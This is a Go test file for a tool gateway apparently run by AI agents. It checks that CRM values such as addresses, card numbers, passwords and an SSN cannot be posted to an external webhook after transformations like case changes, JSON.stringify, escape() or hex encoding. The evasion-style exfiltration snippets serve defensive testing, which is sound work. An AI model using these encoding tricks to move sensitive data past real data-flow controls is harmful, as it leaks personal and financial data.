package security

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// formsServer starts codecell with an upstream crmx whose tool get_deal
// answers deal (structured content, numbers spelled as the upstream
// spells them) and the rule that crmx values may not reach http.
func formsServer(t *testing.T, deal string) *server {
	t.Helper()
	ts := httptest.NewServer(upstreamHandler(func(method string, _ json.RawMessage) string {
		switch method {
		case "initialize":
			return `{"protocolVersion":"2025-06-18","capabilities":{"tools":{}},"serverInfo":{"name":"crmx","version":"1"}}`
		case "tools/list":
			return `{"tools":[{"name":"get_deal","description":"Get a deal.","inputSchema":{"type":"object"}}]}`
		case "tools/call":
			text, _ := json.Marshal(deal)
			return `{"content":[{"type":"text","text":` + string(text) + `}],"structuredContent":` + deal + `}`
		}
		return ""
	}))
	t.Cleanup(ts.Close)
	cfg := filepath.Join(t.TempDir(), "config.toml")
	rules := fmt.Sprintf("[[filter.rules]]\nfrom = \"crmx.*\"\nto = \"http.*\"\n\n[upstream.crmx]\nurl = %q\ntype = \"http\"\n", ts.URL+"/mcp")
	if err := os.WriteFile(cfg, []byte(rules), 0o600); err != nil {
		t.Fatal(err)
	}
	catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
	return start(t, "--config", cfg, "--catalog", catalog)
}

// TestDataFlowFollowsProgramForms (issue 19, attack25 F1–F6, F8, F9,
// F12): what everyday program code makes of a value a tool returned —
// JavaScript's toUpperCase and toLowerCase (ß → SS, İ → i̇, a final ς),
// JSON.stringify of a text with a line break or a quote, escape() and the
// hex of char codes of non-ASCII text, a number passed on as JavaScript
// writes it, a title beside ’ or in « », a card without its dashes — is
// followed by the rules, and a sensitive value so changed is hidden from
// the client, its head too.
func TestDataFlowFollowsProgramForms(t *testing.T) {
	t.Parallel()
	s := formsServer(t, `{"street":"Hauptstraße 17","turkish":"İstiklal Caddesi 42","greek":"Οδός Αγίου Σπυρίδωνος 12",`+
		`"notes":"Call after 3pm,\nonly on \"Mondays\"","amount":1234567.10,"budget":4.2e7,"ledger":98765432109876543210,`+
		`"password":"Weißbier-Geheimnis-2024","portal_password":"winter\"autumn-leaves-fall","title":"Head of Finance",`+
		`"card_on_file":"4012-8888-8888-1881","ssn":987654321.0}`)
	alice := s.open(t, aliceToken)
	const get = `const d = await crmx.get_deal({});`
	post := func(expr string) string {
		return get + ` await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); return "SENT"`
	}
	for _, tc := range []struct{ name, expr string }{
		{"as it is (control)", `d.street`},
		{"ß upper-cased", `d.street.toUpperCase()`},
		{"İ lower-cased", `d.turkish.toLowerCase()`},
		{"final ς upper-cased", `d.greek.toUpperCase()`},
		{"a note as JSON text", `JSON.stringify({notes: d.notes})`},
		{"escape()", `escape(d.street)`},
		{"escape() past Latin-1", `escape(d.greek)`},
		{"hex of char codes", `Array.from(d.street).map(ch => ch.charCodeAt(0).toString(16).padStart(2, "0")).join("")`},
		{"a number as JavaScript writes it", `d.amount`},
		{"an exponent's number", `d.budget`},
		{"an integer past 2^53", `d.ledger`},
		{"a title before ’", `d.title + "’s budget"`},
		{"a title in « »", `"«" + d.title + "»"`},
		{"a card without its dashes", `d.card_on_file.replace(/-/g, "")`},
		{"a card spaced", `d.card_on_file.replace(/-/g, " ")`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rec := alice.run(post(tc.expr))
			if rec.Status != "error" || rec.Error == nil || rec.Error.Code != "policy_violation" {
				t.Fatalf("a crmx value reached http as %s: %.400s", tc.expr, rec.raw)
			}
		})
	}
	// Not from crmx: passes.
	if rec := alice.run(get + ` await http.post_webhook({url: "https://hooks.example/x", payload: {v: "HAUPTSTRASSE 18", n: 1234567.2}}); return "SENT"`); rec.Status != "ok" {
		t.Fatalf("an innocent call was refused: %.400s", rec.raw)
	}
	// Sensitive values the program changed, in the result and a console line.
	rec := alice.run(get + ` const up = d.password.toUpperCase(); const body = JSON.stringify({user: "ann", pass: d.portal_password}); console.log(up, body); return {up, body, line: "new password " + d.password, ref: d.ssn, note: "ref " + d.ssn}`)
	if rec.Status != "ok" {
		t.Fatalf("run: %.400s", rec.raw)
	}
	for _, form := range []string{"WEISSBIER", "GEHEIMNIS", "autumn-leaves", "Weiß", "987654321"} {
		if strings.Contains(rec.raw, form) {
			t.Errorf("%s reached the client: %.600s", form, rec.raw)
		}
	}
	alice.normal()
}
